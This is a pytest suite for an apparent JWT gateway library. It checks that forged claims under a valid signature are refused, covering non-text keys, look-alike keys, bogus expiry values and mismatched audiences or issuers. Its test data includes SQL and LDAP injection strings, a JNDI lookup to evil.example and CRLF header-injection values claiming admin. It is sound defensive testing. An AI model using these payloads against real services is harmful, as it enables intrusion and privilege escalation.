"""Claims that lie, under a signature that holds (R15 to R18; T12 to T16)."""

from typing import Any

import pytest

from jwtgate import ConfigurationError, Credential, Gate, Policy, Reason
from tests.attacks.harness import Via, attacks, both, every_policy, refused, seal
from tests.kit import (
    KEY,
    NOW,
    ListStore,
    Sent,
    credential,
    jack,
    make_gate,
    mint,
    segment,
)

IN = int(NOW)

# What str() makes of a claim that is no text; each names a real credential here.
STRINGIFIED = ["0", "1", "-1", "1.5", "None", "True", "False", "null", "true", "[]"]
STRINGIFIED += ["{}", "['jack-key']", '["jack-key"]', "{'key': 'jack-key'}", "nan"]


def _tempting_gate(policy: Policy) -> Gate:
    keys = [KEY, *STRINGIFIED]
    return make_gate(*(credential(key=key) for key in keys), policy=policy)


NO_TEXTS: dict[str, object] = {
    "null": None,
    "true": True,
    "zero": 0,
    "one": 1,
    "minus-one": -1,
    "fraction": 1.5,
    "big": 10**300,
    "empty": "",
    "empty-array": [],
    "array-of-the-key": [KEY],
    "array-of-two": [KEY, "other"],
    "array-in-array": [[KEY]],
    "empty-object": {},
    "object-of-the-key": {"key": KEY},
    "object-named-like-the-key": {KEY: True},
}


@both
@every_policy
@attacks("value", NO_TEXTS)
def test_key_claim_that_is_no_text(
    via: Via, policy: Policy, value: object, caplog: pytest.LogCaptureFixture
) -> None:
    """R17, T12: Kong answers 500 here, str() finds a credential; we refuse."""
    token = seal(
        segment({"alg": "HS256"}) + b"." + segment({"iss": value, "exp": IN + 60})
    )
    sent = Sent.bearer(token)
    refused(via, sent, caplog, Reason.KEY_CLAIM_INVALID, _tempting_gate(policy))


@both
@attacks("value", NO_TEXTS)
def test_header_does_not_mend_a_bad_key_claim(
    via: Via, value: object, caplog: pytest.LogCaptureFixture
) -> None:
    """T13: the header counts only where the payload has no such member at all."""
    payload = segment({"iss": value, "exp": IN + 60})
    sent = Sent.bearer(seal(segment({"alg": "HS256", "iss": KEY}) + b"." + payload))
    for policy in (Policy(), Policy.kong()):
        refused(via, sent, caplog, Reason.KEY_CLAIM_INVALID, make_gate(policy=policy))


@both
@every_policy
def test_key_claim_that_is_false(
    via: Via, policy: Policy, caplog: pytest.LogCaptureFixture
) -> None:
    """T12, T13: false is no key to both gateways; it opens no way to the header."""
    header = segment({"alg": "HS256", "iss": KEY})
    token = seal(header + b"." + segment({"iss": False, "exp": IN + 60}))
    sent = Sent.bearer(token)
    refused(via, sent, caplog, Reason.KEY_CLAIM_MISSING, _tempting_gate(policy))


OTHER_PLACES: dict[str, dict[str, object]] = {
    "absent": {},
    "upper": {"ISS": KEY},
    "title": {"Iss": KEY},
    "blank-before": {" iss": KEY},
    "blank-behind": {"iss ": KEY},
    "nul-behind": {"iss\0": KEY},
    "zero-width": {"i\u200bss": KEY},
    "long-s": {"i\u017fs": KEY},
    "full-width": {"\uff49\uff53\uff53": KEY},
    "nested": {"claims": {"iss": KEY}},
    "dotted": {"a.iss": KEY},
    "array": {"claims": [{"iss": KEY}]},
    "pointer": {"/iss": KEY},
    "prototype": {"__proto__": {"iss": KEY}},
    "class": {"__class__": {"iss": KEY}},
    "sub-instead": {"sub": KEY},
}


@both
@every_policy
@attacks("claims", OTHER_PLACES)
def test_key_claim_elsewhere(
    via: Via,
    policy: Policy,
    claims: dict[str, object],
    caplog: pytest.LogCaptureFixture,
) -> None:
    """R17: the key claim is one exact flat name."""
    sent = Sent.bearer(mint({"iss": None, **claims}))
    refused(via, sent, caplog, Reason.KEY_CLAIM_MISSING, make_gate(policy=policy))


ALMOST = {
    "blank-before": " jack-key",
    "blank-behind": "jack-key ",
    "line-feed-behind": "jack-key\n",
    "nul-behind": "jack-key\0",
    "nul-and-more": "jack-key\0mallory",
    "tab-before": "\tjack-key",
    "capital": "Jack-Key",
    "upper": "JACK-KEY",
    "underscore": "jack_key",
    "hyphen": "jack\u2010key",
    "minus": "jack\u2212key",
    "soft-hyphen": "jack-\u00adkey",
    "zero-width-space": "jack-\u200bkey",
    "right-to-left": "\u202ejack-key",
    "byte-order-mark": "\ufeffjack-key",
    "full-width": "\uff4aack-key",
    "kelvin-sign": "jac\u212a-key",
    "combining": "jack-ke\u0301y",
    "cyrillic": "j\u0430ck-key",
    "quoted": '"jack-key"',
    "escaped": "jack\\u002dkey",
    "percent-escape": "jack%2Dkey",
    "path": "./jack-key",
    "parent": "x/../jack-key",
    "glob": "jack*",
    "like": "jack%",
    "pattern": ".*",
    "sql": "' OR '1'='1",
    "ldap": "*)(key=*",
    "template": "${jndi:ldap://evil.example/a}",
    "prefix": "jack-ke",
    "longer": "jack-keyy",
    "twice": "jack-keyjack-key",
    "with-comma": "jack-key,other",
    "url": "https://jack-key",
    "513-octets": "k" * 513,
    "257-letters-of-two-octets": "é" * 257,
    "4000-octets": "k" * 4000,
    "emoji": "\U0001f511",
    "escape-sequence": "\x1b[2Jjack-key",
    "cr-lf-header": "x\r\nX-Consumer-ID: admin",
    "dunder": "__class__",
    "username": "jack",
    "custom-id": "495aec6a",
    "consumer-id": jack().id,
}


@both
@every_policy
@attacks("key", ALMOST)
def test_key_that_is_almost_jacks(
    via: Via, policy: Policy, key: str, caplog: pytest.LogCaptureFixture
) -> None:
    """R17, T2, T12: keys are compared exactly: no trimming, folding, normalising."""
    sent = Sent.bearer(mint({"iss": key}))
    refused(via, sent, caplog, Reason.KEY_UNKNOWN, make_gate(policy=policy))


UNFIT_FOR_STORES = ["nul-behind", "line-feed-behind", "513-octets", "4000-octets"]
UNFIT_FOR_STORES += ["escape-sequence", "cr-lf-header", "257-letters-of-two-octets"]


@both
@pytest.mark.parametrize("name", UNFIT_FOR_STORES)
def test_key_that_no_store_is_asked_for(via: Via, name: str) -> None:
    """T2, T36: what is not printable, or above 512 octets, never reaches a store."""
    store = ListStore(credential())
    via(Gate(store, clock=lambda: NOW), Sent.bearer(mint({"iss": ALMOST[name]})))
    assert store.asked == []


class LooseStore(ListStore):
    """A store that compares as loosely as some databases do."""

    def find(self, key: str, kid: str | None = None) -> list[Any]:
        """Find by key, whatever its case and the blanks behind it."""
        self.asked.append((key, kid))
        return [
            each
            for each in self.credentials
            if each.key.casefold() == key.rstrip().casefold()
        ]


@both
@pytest.mark.parametrize("name", ["blank-behind", "capital", "upper", "kelvin-sign"])
def test_key_that_only_the_database_takes_for_equal(
    via: Via, name: str, caplog: pytest.LogCaptureFixture
) -> None:
    """R17: a collation that ignores case or blanks finds nobody."""
    gate = Gate(LooseStore(credential()), clock=lambda: NOW)
    sent = Sent.bearer(mint({"iss": ALMOST[name]}))
    refused(via, sent, caplog, Reason.KEY_UNKNOWN, gate)


HEADER_KEYS: dict[str, object] = {
    "another": "other-key",
    "unknown": "nobody",
    "capital": "Jack-key",
    "empty": "",
    "null": None,
    "array": [KEY],
    "object": {"key": KEY},
    "true": True,
}


@both
@attacks("value", HEADER_KEYS)
def test_two_key_claims_that_differ(
    via: Via, value: object, caplog: pytest.LogCaptureFixture
) -> None:
    """T13: a payload and a header that name two keys are read as two tokens."""
    sent = Sent.bearer(mint(header={"alg": "HS256", "iss": value}))
    gate = make_gate(credential(), credential(key="other-key"))
    refused(via, sent, caplog, Reason.KEY_CLAIM_CONFLICT, gate)


@both
def test_key_claim_in_the_header_for_apisix(
    via: Via, caplog: pytest.LogCaptureFixture
) -> None:
    """T13: APISIX looks into the payload alone, so does its policy."""
    token = mint({"iss": None}, header={"alg": "HS256", "key": KEY})
    gate = make_gate(policy=Policy.apisix())
    refused(via, Sent.bearer(token), caplog, Reason.KEY_CLAIM_MISSING, gate)


EXPIRED: dict[str, float] = {
    "this-very-second": IN,
    "this-very-second-as-a-fraction": float(NOW),
    "a-second-ago": IN - 1,
    "a-year-ago": IN - 31_536_000,
    "zero": 0,
    "minus-zero": -0.0,
    "one": 1,
    "minus-one": -1,
    "tiny": 5e-324,
    "minus-huge": -1.7e308,
    "minus-4000-digits": -(10**4000),
    "day-number": IN // 86_400,
}


@both
@every_policy
@attacks("exp", EXPIRED)
def test_expired(
    via: Via, policy: Policy, exp: float, caplog: pytest.LogCaptureFixture
) -> None:
    """R15, T14: refused on and after exp, compared as the number it is."""
    sent = Sent.bearer(mint(exp=exp))
    refused(via, sent, caplog, Reason.TOKEN_EXPIRED, make_gate(policy=policy))


@both
def test_expired_by_a_fraction(via: Via, caplog: pytest.LogCaptureFixture) -> None:
    """R15: natively fractions of a second count."""
    gate = Gate(ListStore(credential()), clock=lambda: NOW + 0.5)
    sent = Sent.bearer(mint(exp=NOW + 0.25))
    refused(via, sent, caplog, Reason.TOKEN_EXPIRED, gate)


NO_NUMBERS: dict[str, object] = {
    "null": None,
    "true": True,
    "false": False,
    "text": str(IN + 60),
    "text-fraction": f"{IN}.5",
    "text-underscores": "9_999_999_999",
    "text-arabic": "\u0669" * 10,
    "text-full-width": "\uff19" * 10,
    "text-exponent": "1e11",
    "text-infinity": "Infinity",
    "text-nan": "NaN",
    "text-date": "2099-01-01T00:00:00Z",
    "text-blanks": f" {IN + 60} ",
    "empty-text": "",
    "never": "never",
    "array": [IN + 60],
    "empty-array": [],
    "object": {"$numberLong": str(IN + 60)},
    "empty-object": {},
}


def _with_claims(**claims: object) -> str:
    payload = {"iss": KEY, "exp": IN + 60, **claims}
    return seal(segment({"alg": "HS256"}) + b"." + segment(payload))


@both
@every_policy
@pytest.mark.parametrize("claim", ["exp", "nbf"])
@attacks("value", NO_NUMBERS)
def test_time_that_is_no_number(
    via: Via,
    policy: Policy,
    claim: str,
    value: object,
    caplog: pytest.LogCaptureFixture,
) -> None:
    """R16, T14: a boolean, a text of digits or null is no NumericDate."""
    sent = Sent.bearer(_with_claims(**{claim: value}))
    refused(via, sent, caplog, Reason.CLAIM_INVALID, make_gate(policy=policy))


TOO_EARLY: dict[str, float] = {
    "in-a-second": IN + 1,
    "in-a-year": IN + 31_536_000,
    "year-10000": 253_402_300_800,
    "milliseconds": IN * 1000,
    "huge": 1.7e308,
    "4000-digits": 10**4000,
}


@both
@every_policy
@attacks("nbf", TOO_EARLY)
def test_not_yet_valid(
    via: Via, policy: Policy, nbf: float, caplog: pytest.LogCaptureFixture
) -> None:
    """R15, T14: refused before nbf; no date is ever made of a claim."""
    sent = Sent.bearer(_with_claims(nbf=nbf))
    refused(via, sent, caplog, Reason.TOKEN_NOT_YET_VALID, make_gate(policy=policy))


@both
def test_nbf_second_in_apisix(via: Via, caplog: pytest.LogCaptureFixture) -> None:
    """R15: to APISIX the very second of nbf is too early."""
    gate = make_gate(policy=Policy.apisix(key_claim="iss"))
    sent = Sent.bearer(_with_claims(nbf=IN))
    refused(via, sent, caplog, Reason.TOKEN_NOT_YET_VALID, gate)


@both
@every_policy
def test_missing_exp(
    via: Via, policy: Policy, caplog: pytest.LogCaptureFixture
) -> None:
    """R15: a token that never expires is refused unless the policy says otherwise."""
    sent = Sent.bearer(mint(exp=None, nbf=1))
    refused(via, sent, caplog, Reason.CLAIM_MISSING, make_gate(policy=policy))


UNBOUNDED = {
    "nan": b"NaN",
    "minus-nan": b"-NaN",
    "infinity": b"Infinity",
    "overflow": b"1e309",
    "overflow-with-digits": b"9" * 400 + b".0e1",
    "hexadecimal": b"0xffffffff",
    "5000-digits": b"9" * 5000,
}


@both
@every_policy
@attacks("exp", UNBOUNDED)
def test_exp_that_no_time_reaches(
    via: Via, policy: Policy, exp: bytes, caplog: pytest.LogCaptureFixture
) -> None:
    """R4, T3, T14: Kong's NaN never expires; here it is no JSON in every mode."""
    token = mint(b'{"iss":"jack-key","exp":%s}' % exp)
    sent = Sent.bearer(token)
    refused(via, sent, caplog, Reason.PAYLOAD_MALFORMED, make_gate(policy=policy))


@both
@every_policy
def test_grace_is_not_endless(
    via: Via, policy: Policy, caplog: pytest.LogCaptureFixture
) -> None:
    """R15: exp plus the credential's grace refuses as exp itself does."""
    gate = make_gate(credential(lifetime_grace_period=30), policy=policy)
    sent = Sent.bearer(mint(exp=IN - 30))
    refused(via, sent, caplog, Reason.TOKEN_EXPIRED, gate)


@both
@every_policy
def test_grace_for_nbf_is_not_endless(
    via: Via, policy: Policy, caplog: pytest.LogCaptureFixture
) -> None:
    """R15: so does nbf less the grace."""
    gate = make_gate(credential(lifetime_grace_period=30), policy=policy)
    sent = Sent.bearer(_with_claims(nbf=IN + 31))
    refused(via, sent, caplog, Reason.TOKEN_NOT_YET_VALID, gate)


@both
def test_zero_grace_of_a_credential(via: Via, caplog: pytest.LogCaptureFixture) -> None:
    """R15: a credential's grace of 0 is a choice, not the absence of one."""
    gate = make_gate(credential(lifetime_grace_period=0), policy=Policy(leeway=60))
    sent = Sent.bearer(mint(exp=IN - 1))
    refused(via, sent, caplog, Reason.TOKEN_EXPIRED, gate)


@both
def test_clock_that_steps_back(via: Via, caplog: pytest.LogCaptureFixture) -> None:
    """T16: one reading of the clock serves all checks of a token."""
    times = iter([NOW, NOW - 3600, NOW + 3600])
    gate = Gate(ListStore(credential()), clock=lambda: next(times))
    sent = Sent.bearer(mint(exp=IN - 10))
    refused(via, sent, caplog, Reason.TOKEN_EXPIRED, gate)
    assert next(times) == NOW - 3600


LIMITED = {
    "native": Policy(maximum_expiration=3600, leeway=600),
    "kong": Policy.kong(maximum_expiration=3600),
    "apisix": Policy.apisix(
        key_claim="iss",
        maximum_expiration=3600,
        claims_to_verify=("exp",),
        required_claims=("exp",),
    ),
}
TOO_FAR: dict[str, float] = {
    "a-second": IN + 3601,
    "a-fraction": NOW + 3600.5,
    "a-year": IN + 31_536_000,
    "milliseconds": IN * 1000,
    "huge": 1.7e308,
    "4000-digits": 10**4000,
}


@both
@attacks("policy", LIMITED)
@attacks("exp", TOO_FAR)
def test_exp_too_far(
    via: Via, policy: Policy, exp: float, caplog: pytest.LogCaptureFixture
) -> None:
    """T15: exp lies at most the limit from now, whatever iat says and grace adds."""
    gate = make_gate(credential(lifetime_grace_period=900), policy=policy)
    sent = Sent.bearer(mint(exp=exp, iat=IN + 31_536_000))
    refused(via, sent, caplog, Reason.EXPIRATION_TOO_FAR, gate)


@both
@attacks("policy", LIMITED)
@attacks("exp", NO_NUMBERS)
def test_exp_that_no_limit_fits(
    via: Via, policy: Policy, exp: object, caplog: pytest.LogCaptureFixture
) -> None:
    """T15: exp null and the like are Kong's 500 with a limit, here a refusal."""
    sent = Sent.bearer(_with_claims(exp=exp))
    refused(via, sent, caplog, Reason.CLAIM_INVALID, make_gate(policy=policy))


@both
@attacks("policy", LIMITED)
def test_limit_without_exp(
    via: Via, policy: Policy, caplog: pytest.LogCaptureFixture
) -> None:
    """T15: a limit forces exp to be there."""
    sent = Sent.bearer(mint(exp=None, iat=IN))
    refused(via, sent, caplog, Reason.CLAIM_MISSING, make_gate(policy=policy))


AUDIENCES: dict[str, dict[str, object]] = {
    "absent": {},
    "null": {"aud": ()},
    "another": {"aud": "api.evil.example"},
    "prefix": {"aud": "api.example.evil"},
    "suffix": {"aud": "evil-api.example"},
    "capital": {"aud": "API.example"},
    "blank": {"aud": "api.example "},
    "empty": {"aud": ""},
    "number": {"aud": 7},
    "true": {"aud": True},
    "object": {"aud": {"api.example": True}},
    "empty-array": {"aud": []},
    "array-of-others": {"aud": ["a", "b"]},
    "array-in-array": {"aud": [["api.example"]]},
    "array-of-objects": {"aud": [{"aud": "api.example"}]},
    "list-in-a-text": {"aud": '["api.example"]'},
    "comma-list": {"aud": "other,api.example"},
    "blank-list": {"aud": "other api.example"},
}


@both
@attacks("claims", AUDIENCES)
def test_token_for_another_audience(
    via: Via, claims: dict[str, object], caplog: pytest.LogCaptureFixture
) -> None:
    """R18: one of the token's audiences is exactly one of ours."""
    gate = make_gate(policy=Policy(audience=["api.example"]))
    refused(via, Sent.bearer(mint(claims)), caplog, Reason.AUDIENCE_MISMATCH, gate)


TYPES: dict[str, dict[str, object]] = {
    "absent": {},
    "id-token": {"typ": "JWT"},
    "logout-token": {"typ": "logout+jwt"},
    "prefix": {"typ": "at+jwt2"},
    "suffix": {"typ": "xat+jwt"},
    "blank": {"typ": "at+jwt "},
    "empty": {"typ": ""},
    "null": {"typ": None},
    "array": {"typ": ["at+jwt"]},
    "object": {"typ": {"at+jwt": 1}},
    "twice-application": {"typ": "application/application/at+jwt"},
    "parameter": {"typ": "at+jwt;x=1"},
    "text-type": {"typ": "text/at+jwt"},
    "in-the-payload": {"cty": "at+jwt"},
}


@both
@attacks("members", TYPES)
def test_token_of_another_type(
    via: Via, members: dict[str, object], caplog: pytest.LogCaptureFixture
) -> None:
    """R18: a typ that was asked for is demanded exactly, in the header."""
    gate = make_gate(policy=Policy(types=["at+jwt"]))
    token = mint(header={"alg": "HS256", **members}, typ="at+jwt")
    refused(via, Sent.bearer(token), caplog, Reason.TYPE_MISMATCH, gate)


ISSUERS: dict[str, dict[str, object]] = {
    "absent": {},
    "another": {"iss": "https://evil.example"},
    "slash": {"iss": "https://login.example/"},
    "upper": {"iss": "HTTPS://login.example"},
    "port": {"iss": "https://login.example:443"},
    "userinfo": {"iss": "https://login.example@evil.example"},
    "array": {"iss": ["https://login.example"]},
    "number": {"iss": 1},
    "true": {"iss": True},
    "object": {"iss": {"https://login.example": 1}},
    "prefix": {"iss": "https://login.example.evil"},
}


@both
@attacks("claims", ISSUERS)
def test_token_of_another_issuer(
    via: Via, claims: dict[str, object], caplog: pytest.LogCaptureFixture
) -> None:
    """R17, R18: an issuer that was asked for is compared as text, not as URL."""
    policy = Policy(key_claim="client", issuer=["https://login.example"])
    token = mint({"iss": None, "client": KEY, **claims})
    gate = make_gate(policy=policy)
    refused(via, Sent.bearer(token), caplog, Reason.ISSUER_MISMATCH, gate)


OFF_DUTY: dict[str, tuple[dict[str, Any], Reason]] = {
    "disabled": ({"enabled": False}, Reason.CREDENTIAL_DISABLED),
    "consumer-disabled": (
        {"consumer": jack(enabled=False)},
        Reason.CONSUMER_DISABLED,
    ),
    "not-yet": ({"not_before": NOW + 0.5}, Reason.CREDENTIAL_NOT_YET_VALID),
    "retired-now": ({"retire_after": NOW}, Reason.CREDENTIAL_RETIRED),
    "retired-long-ago": ({"retire_after": 0}, Reason.CREDENTIAL_RETIRED),
    "another-kid": ({"kid": "other"}, Reason.KID_UNKNOWN),
    "kid-of-another-case": ({"kid": "K1"}, Reason.KID_UNKNOWN),
    "kid-with-a-blank": ({"kid": "k1 "}, Reason.KID_UNKNOWN),
}


@both
@every_policy
@attacks("row", OFF_DUTY)
def test_credential_off_duty(
    via: Via,
    policy: Policy,
    row: tuple[dict[str, Any], Reason],
    caplog: pytest.LogCaptureFixture,
) -> None:
    """R17, T38: a disabled, retired or otherwise named credential is no help."""
    fields, reason = row
    token = mint(header={"alg": "HS256", "kid": "k1"})
    gate = make_gate(credential(**fields), policy=policy)
    refused(via, Sent.bearer(token), caplog, reason, gate)


@both
def test_kid_keeps_to_its_credential(
    via: Via, caplog: pytest.LogCaptureFixture
) -> None:
    """R17: a kid that is known is never tried under another credential of the key."""
    gate = make_gate(credential(kid="k1", secret="x" * 64), credential())
    token = mint(header={"alg": "HS256", "kid": "k1"})
    refused(via, Sent.bearer(token), caplog, Reason.SIGNATURE_INVALID, gate)


@both
def test_fifth_live_credential(via: Via, caplog: pytest.LogCaptureFixture) -> None:
    """T11: four signature checks are the most that a request can cost."""
    others = [credential(kid=str(n), secret=f"{n}" * 64) for n in range(4)]
    gate = make_gate(*others, credential(kid="last"))
    refused(via, Sent.bearer(mint()), caplog, Reason.SIGNATURE_INVALID, gate)


NAMED: dict[str, dict[str, object]] = {
    "empty": {"sub": ""},
    "number": {"sub": 7},
    "true": {"sub": True},
    "array": {"sub": ["admin"]},
    "object": {"sub": {"name": "admin"}},
    "header-injection": {"sub": "x\r\nX-Consumer-Groups: admin"},
    "line-feed": {"sub": "x\n"},
    "nul": {"sub": "x\0"},
}


@both
@attacks("claims", NAMED)
def test_consumer_claim_that_names_nobody(
    via: Via, claims: dict[str, object], caplog: pytest.LogCaptureFixture
) -> None:
    """T25: a claim that names the consumer is a text that a header can hold."""
    gate = make_gate(credential(consumer_claim="sub"))
    refused(via, Sent.bearer(mint(claims)), caplog, Reason.CLAIM_INVALID, gate)


@both
def test_consumer_claim_missing(via: Via, caplog: pytest.LogCaptureFixture) -> None:
    """T25: without it nobody is named, not the credential's own consumer."""
    gate = make_gate(credential(consumer_claim="sub"))
    refused(via, Sent.bearer(mint()), caplog, Reason.CLAIM_MISSING, gate)


@both
def test_admin_of_another_issuer(via: Via) -> None:
    """R17: two issuers' "admin" are two consumers, and neither is the store's."""
    issuers = [
        Credential(consumer=jack(), key=key, secret="s" * 64, consumer_claim="sub")
        for key in ("good", "evil")
    ]
    ids = {
        via(
            make_gate(*issuers),
            Sent.bearer(mint({"iss": key, "sub": "admin"}, secret="s" * 64)),
        ).outcome.consumer.id
        for key in ("good", "evil")
    }
    assert len(ids | {jack(username="admin").id}) == 3


@pytest.mark.parametrize(
    "settings",
    [
        {"claims_to_verify": ["nbf"]},
        {"claims_to_verify": [], "required_claims": ["exp"]},
        {"required_claims": []},
    ],
    ids=["unverified", "required-alone", "not-required"],
)
def test_limit_that_exp_could_dodge(settings: dict[str, Any]) -> None:
    """T15: a limit whose exp is not checked is a contradiction of the policy."""
    with pytest.raises(ConfigurationError, match="maximum_expiration needs exp"):
        Policy(maximum_expiration=60, **settings)
